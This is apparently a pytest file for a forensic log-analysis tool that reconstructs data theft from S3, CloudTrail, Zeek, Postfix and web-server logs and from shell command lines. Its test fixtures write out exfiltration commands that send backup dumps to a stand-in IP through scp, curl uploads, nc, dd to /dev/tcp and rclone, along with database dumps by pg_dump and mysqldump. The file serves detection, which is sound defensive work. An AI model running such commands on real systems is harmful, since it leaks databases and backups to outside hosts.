"""What events tell about a file being taken: lines of logs, read by their formats."""

from __future__ import annotations

import json
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from kakuho.engine.schemas import TABLES
from kakuho.evidence.content import PlainContent
from kakuho.evidence.formats import FORMATS, Declared, SourceFile
from kakuho.evidence.identification import identify
from kakuho.exposure.methods.declared_files import written_before
from kakuho.exposure.methods.locations import fits
from kakuho.exposure.methods.transfers import Transfer, transfers
from kakuho.inventory import AccessPath

_OWNER = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"
_OBJECT = 'REST.GET.OBJECT daily/db%252B1.dump "GET /backups/daily/db%2B1.dump HTTP/1.1"'
_S3_TAIL = '70 10 "-" "aws-cli/2" - id SigV4 TLS AuthHeader backups.s3.amazonaws.com TLSv1.3 - -'


def s3(status: int, sent: int, size: int) -> str:
    return (
        f"{_OWNER} backups [19/Mar/2025:06:30:00 +0000] 203.0.113.66 arn:aws:iam::1:user/x 3E57427F3EXAMPLE {_OBJECT} "
        f"{status} - {sent} {size} {_S3_TAIL}\n"
    )


def cloudtrail(**request: str) -> str:
    record = {
        "eventVersion": "1.08",
        "awsRegion": "ap-northeast-1",
        "eventTime": "2025-03-19T06:30:00Z",
        "eventSource": "s3.amazonaws.com",
        "eventName": "GetObject",
        "sourceIPAddress": "203.0.113.66",
        "userIdentity": {"type": "IAMUser", "accessKeyId": "AKIAEXAMPLE", "userName": "backup"},
        "requestParameters": {"bucketName": "backups", "key": "daily/db.dump", **request},
        "additionalEventData": {"bytesTransferredOut": 4096.0, "bytesTransferredIn": 0},
    }
    return json.dumps({"Records": [record]})


ZEEK = json.dumps(
    {"_path": "files", "ts": 1742365830.5, "fuid": "F1", "tx_hosts": ["10.0.0.5"], "rx_hosts": ["203.0.113.66"],
     "source": "HTTP", "analyzers": ["SHA256"], "mime_type": "text/csv", "filename": "people.csv", "duration": 0.1,
     "is_orig": False, "seen_bytes": 512, "total_bytes": 512, "missing_bytes": 0, "overflow_bytes": 0,
     "timedout": False, "sha256": "ab" * 32}
)  # fmt: skip
POSTFIX = (
    "2025-03-19T15:30:00+09:00 mx postfix/smtpd[71]: 4F1A2B3C4D: client=unknown[203.0.113.66], sasl_username=hanako\n"
    "2025-03-19T15:30:01+09:00 mx postfix/cleanup[72]: 4F1A2B3C4D: message-id=<1@example.jp>\n"
    "2025-03-19T15:30:02+09:00 mx postfix/smtp[73]: 4F1A2B3C4D: to=<x@example.com>, relay=a[192.0.2.1]:25, dsn=2.0.0,"
    " status=sent (250 ok)\n"
)


def told(text: str, folder: Path) -> list[Transfer]:
    """The transfers of every line of a log, all of them certainly the attacker's."""
    path = folder / "log"
    path.write_text(text, encoding="utf-8")
    content = PlainContent(path)
    known = identify(content, path.name)
    source = SourceFile(content, path.name, datetime(2025, 4, 1), known.variant, Declared("Asia/Tokyo"))  # noqa: DTZ001
    found: list[Transfer] = []
    for part in FORMATS[known.format.name].parse(source):
        for table, rows in part.tables.items():
            nothing = dict.fromkeys(TABLES[table].schema.names)
            for row in rows.to_pylist():
                found += transfers(table, {**nothing, **row, "source_id": 1, "certain": True})
    return found


def told_shortly(text: str, folder: Path) -> list[tuple[Any, ...]]:
    return [(one.kind, one.location or one.message_id, one.size, one.whole) for one in told(text, folder)]


def test_an_object_of_s3_that_went_out_whole_and_a_part_of_one(tmp_path: Path) -> None:
    place = "s3://backups/daily/db+1.dump"
    assert told_shortly(s3(200, 4096, 4096) * 2, tmp_path) == [("download", place, 4096, True)] * 2
    assert told_shortly(s3(206, 100, 4096) * 2, tmp_path) == [("download", place, 100, False)] * 2
    assert told_shortly(s3(403, 0, 4096) * 2, tmp_path) == []


def test_a_request_whose_bytes_the_web_server_did_not_count_may_have_been_answered_whole(tmp_path: Path) -> None:
    """As gunicorn logs what it sent by sendfile: 200 and no bytes."""
    line = '203.0.113.66 - - [19/Mar/2025:15:30:00 +0900] "GET /files/db-1.dump HTTP/1.1" {} "-" "Wget/1.21"\n'
    assert told_shortly(line.format("200 0") * 2, tmp_path) == [("download", "/files/db-1.dump", None, False)] * 2
    assert told_shortly(line.format("204 0") * 2, tmp_path) == []


def test_get_object_in_cloudtrail(tmp_path: Path) -> None:
    assert told_shortly(cloudtrail(), tmp_path) == [("download", "s3://backups/daily/db.dump", 4096, True)]
    assert told_shortly(cloudtrail(Range="bytes=0-99"), tmp_path)[0][3] is False


def test_zeek_tells_the_hash_of_what_it_saw(tmp_path: Path) -> None:
    (found,) = told(ZEEK + "\n", tmp_path)
    assert (found.kind, found.location, found.size, found.whole, found.sha256) == (
        "seen", "people.csv", 512, True, "ab" * 32
    )  # fmt: skip
    assert told(ZEEK.replace('"missing_bytes": 0', '"missing_bytes": 9') + "\n", tmp_path)[0].whole is False


def test_a_mail_by_its_id(tmp_path: Path) -> None:
    assert told_shortly(POSTFIX, tmp_path) == [("mail", "1@example.jp", None, False)]


def commanded(command: str, folder: str | None = None) -> set[str]:
    unmapped = json.dumps({"CWD": {"cwd": folder}}) if folder else None
    row = {"source_id": 1, "line": 1, "byte_offset": 0, "time": datetime(2025, 3, 19), "certain": True,  # noqa: DTZ001
           "outcome": "success", "command_line": command, "unmapped": unmapped}  # fmt: skip
    return {one.program or one.location or "" for one in transfers("process_activity", row)}


@pytest.mark.parametrize(
    ("command", "folder"),
    [
        ("scp /var/backups/db-1.dump x@203.0.113.66:/tmp", None),
        ("scp db-1.dump x@203.0.113.66:", "/var/backups"),
        ("tar czf /tmp/.x.tgz /var/backups", None),
        ("tar czf - .", "/var/backups"),
        ("curl -T /var/backups/db-1.dump https://203.0.113.66/", None),
        ("curl -F file=@/var/backups/db-1.dump https://203.0.113.66/", None),
        ("sh -c 'cat /var/backups/db-*.dump | nc 203.0.113.66 9'", None),
        ("dd if=/var/backups/db-1.dump of=/dev/tcp/203.0.113.66/9", None),
        ("rsync -a root@db:/var/backups/ /tmp/", None),
        ("rclone copy /var/backups/db-1.dump remote:x", None),
    ],
)
def test_a_command_that_names_a_backup_or_the_folder_above_it(command: str, folder: str | None) -> None:
    at = datetime(2025, 3, 19)  # noqa: DTZ001
    found = [Transfer(1, 1, 0, at, True, "command", location=place) for place in commanded(command, folder)]
    assert any(fits(one, "/var/backups/db-*.dump") for one in found)
    assert not any(fits(one, "/srv/exports/*.csv") for one in found)


def test_a_command_that_dumps_the_database() -> None:
    assert "pg_dump" in commanded("/usr/bin/pg_dump -Fc -f /tmp/x petinsurance")
    assert "mysqldump" in commanded("bash -c 'mysqldump --all-databases > /tmp/x'")
    assert commanded("ls -l") == set()


@pytest.mark.parametrize(
    ("asked", "expected"),
    [
        ("/files/db-1.dump", True),
        ("/files/sub/db-1.dump", False),
        ("/files/../files/db-1.dump", False),
        ("/files/db-1.dump.txt", False),
        ("/other/db-1.dump", False),
    ],
)
def test_a_path_of_a_web_server_is_taken_as_it_was_asked_for(asked: str, expected: bool) -> None:
    one = Transfer(1, 1, 0, datetime(2025, 3, 19), True, "download", location=asked)  # noqa: DTZ001
    assert fits(one, "/files/db-*.dump") is expected


def test_rows_made_after_the_last_night_are_not_in_a_nightly_file() -> None:
    nightly = AccessPath(id="b", kind="backup", files=("/b/*",), written="03:00")
    at = datetime.fromisoformat
    assert written_before(nightly, at("2025-03-19T06:30:00"), "Asia/Tokyo") == at("2025-03-18T19:00:00")
    assert written_before(nightly, at("2025-03-18T16:00:00"), "Asia/Tokyo") == at("2025-03-17T19:00:00")
    assert written_before(nightly, at("2025-03-18T17:30:00"), "Asia/Tokyo") == at("2025-03-18T19:00:00")
